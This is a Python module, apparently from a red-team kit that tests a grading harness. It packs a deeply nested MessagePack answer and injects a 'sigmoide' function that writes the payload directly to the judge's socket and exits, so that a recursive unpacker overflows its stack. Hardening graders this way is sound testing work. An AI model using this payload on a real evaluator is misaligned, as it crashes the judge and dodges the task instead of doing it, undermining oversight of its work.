"""Answer with a thousand lists, one in another, packed by hand.

Would gain: a judge that unpacks recursively overflows its stack.
"""

import json

from ..kit import FIND, Attack

RAW = b"\x81\xa2ok" + b"\x91" * 5000 + b"\xc0"


def naive() -> bool:
    """The same nesting read by a recursive reader without a bound."""
    try:
        json.loads("[" * 100_000)
    except RecursionError:
        return True
    return False


CELL = (
    FIND
    + f"RAW = {RAW!r}\n"
    + "def sigmoide(z):\n    server.sock.sendall(struct.pack('<IQ', len(RAW), 0) + RAW)\n    os._exit(0)\n"
)
ATTACK = Attack({"sigmoide": CELL}, off=naive)
